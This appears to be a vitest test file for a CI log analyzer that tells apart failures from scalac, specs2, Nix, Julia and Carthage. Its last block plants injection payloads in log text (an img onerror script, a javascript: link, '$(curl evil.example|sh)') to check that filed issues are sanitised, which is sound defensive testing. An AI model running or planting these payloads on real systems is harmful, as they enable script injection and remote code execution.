import { describe, expect, it } from 'vitest';
import { analyzeLog } from '../src/analyzer/analyze.js';
import { factLines, keyLinesBlock, nextStep } from '../src/filing/issue-body.js';
import { createSanitizer } from '../src/text/sanitize.js';

/**
 * The MUnit, specs2, Carthage, Julia and Nix rules attacked from outside: output of other tools
 * that looks like theirs, and what a fork's job can print. Each test here failed before the fix
 * beside it (see the review21 report for the inputs that held).
 */

describe("scalac's quoted source line under sbt is not a specs2 example", () => {
  // scalac 2 quotes the offending line as it is in the source, after sbt's "[error] ": a line that
  // starts with a variable x and a method ("x foreach println", "x match {") reads like specs2's
  // "[error] x <example>".
  for (const [code, message] of [
    ['x foreach println', 'value foreach is not a member of Int'],
    ['x match {', 'type mismatch;'],
    ['x shouldBe 2', 'value shouldBe is not a member of Int'],
  ] as const) {
    it(`"[error]   ${code}" under a compile error keeps it a compile error`, async () => {
      const log = [
        '[info] compiling 3 Scala sources to /w/target/scala-2.13/classes ...',
        `[error] /w/src/main/scala/A.scala:5:7: ${message}`,
        `[error]   ${code}`,
        '[error]     ^',
        '[error] one error found',
        '[error] (Compile / compileIncremental) Compilation failed',
        '',
      ].join('\n');
      const a = await analyzeLog(log);
      expect(a.category).toBe('compile_error');
      const f = a.findings[0]!;
      expect(f.rule).toBe('sbt.scalac-error');
      expect(f.keyLine).toContain('A.scala:5:7');
      // The source line is not listed as a failing test.
      expect(f.facts?.tests ?? []).toEqual([]);
    });
  }

  it('a specs2 failure under sbt is still a failed test with its name', async () => {
    const log = [
      '[info] CalcSpec',
      '[info] presentation',
      '[info]   + adds',
      '[error]   x subtracts',
      "[error]    '1' is not equal to '2' (CalcSpec.scala:12)",
      '[info] Total for specification CalcSpec',
      '[error] Failed: Total 2, Failed 1, Errors 0, Passed 1',
      '',
    ].join('\n');
    const a = await analyzeLog(log);
    expect(a.category).toBe('test_failure');
    expect(a.findings[0]!.rule).toBe('specs2.failed');
    expect(a.findings[0]!.facts?.tests).toEqual(['subtracts']);
  });
});

describe("a REPL's echoed input is not a Nix builder's prefixed log line", () => {
  // `nix build -L` prefixes a builder's lines with the derivation's name and "> ", as a REPL's
  // prompt does with the input it echoes: "julia> error(\"boom\")" is the call, not its failure.
  for (const [echo, error] of [
    ['julia> error("boom")', 'ERROR: boom'],
    ['ghci> error "boom"', '*** Exception: boom'],
    ['julia> Error("x") isa Exception', 'ERROR: UndefVarError: `Error` not defined'],
  ] as const) {
    it(`"${echo}"`, async () => {
      const a = await analyzeLog([echo, error, 'Stacktrace:', ' [1] top-level scope', ''].join('\n'));
      expect(a.findings.map((f) => f.rule)).not.toContain('nix.builder-log-prefixed');
      for (const f of a.findings) expect(f.facts?.tool).not.toBe('nix');
      expect(a.findings.flatMap((f) => f.excerpt.map((l) => l.text))).toContain(error);
    });
  }

  it("a derivation's prefixed failing line is still found", async () => {
    const a = await analyzeLog(
      [
        'slugify-unit-tests> .F',
        'slugify-unit-tests> FAIL: test_spaces (test_slug.SlugTest.test_spaces)',
        '',
      ].join('\n'),
    );
    expect(a.findings[0]?.rule).toBe('nix.builder-log-prefixed');
  });
});

describe("the new rules' facts reach an issue only through the sanitizer", () => {
  const E = '@maintainer <img src=x onerror=alert(1)> [x](javascript:alert(1)) $(curl evil.example|sh) #123';
  // The same without spaces, for facts captured as one \S+ word.
  const W = '@maintainer<img/src=x/onerror=alert(1)>[x](javascript:alert(1))$(curl)#123';
  const logs: Array<[string, string]> = [
    ['munit.failed', `==> X evil.Suite.${E}  0.001s munit.FailException: ${E}\n`],
    ['specs2.failed', `[error] x ${E}\n[error]  '1' is not equal to '2'\n`],
    ['specs2.error', `[error] ! ${E}\n[error]  boom\n`],
    ['julia.test-failed', `${E}: Test Failed at /w/test/${W}.jl:7\n  Expression: 1 == 2\n`],
    ['julia.error-during-test', `${E}: Error During Test at /w/${W}.jl:12\n  Test threw exception\n`],
    ['julia.pkg-build', `┌ Error: Error building \`${E}\`:\n│ boom\n└ @ Pkg\n`],
    ['julia.pkg-unsatisfiable', `ERROR: Unsatisfiable requirements detected for package ${W} [0123abcd]:\n`],
    ['documenter.doctest-failure', `┌ Error: doctest failure in src/${W}.md:3-6\n`],
    [
      'carthage.common-architectures',
      `Building universal frameworks with common architectures is not possible. The device and simulator slices for "${E}" both build for: arm64\n`,
    ],
  ];
  const LIVE = /(^|[^\w`])@maintainer\b|<img|\]\(javascript:|\$\(curl|(^|[^\w&`])#123\b/;

  for (const [rule, log] of logs) {
    it(`${rule}: its facts, next step, key lines and title carry no live markup`, async () => {
      const a = await analyzeLog(log);
      const f = a.findings[0]!;
      expect(f.rule).toBe(rule);
      // The facts hold the hostile text: what follows is about the output, not a lucky miss.
      expect(JSON.stringify(f.facts)).toMatch(/@maintainer/);
      const s = createSanitizer();
      const out = [...factLines(s, f.facts), nextStep(s, a.category, f.facts), keyLinesBlock(s, f)].join(
        '\n',
      );
      // The key lines are a fenced block (inert as a whole); everything else is markdown.
      const outsideCode = out.replace(/^(`{3,}|~{3,})[^\n]*\n[\s\S]*?\n\1\s*$/gm, '');
      expect(outsideCode).not.toBe(out);
      expect(outsideCode, out).not.toMatch(LIVE);
      // A title is plain text: only mentions and issue references would act there.
      expect(s.title(f.title)).not.toMatch(/(^|[^\w`])@maintainer\b|(^|[^\w&`])#123\b/);
    });
  }
});
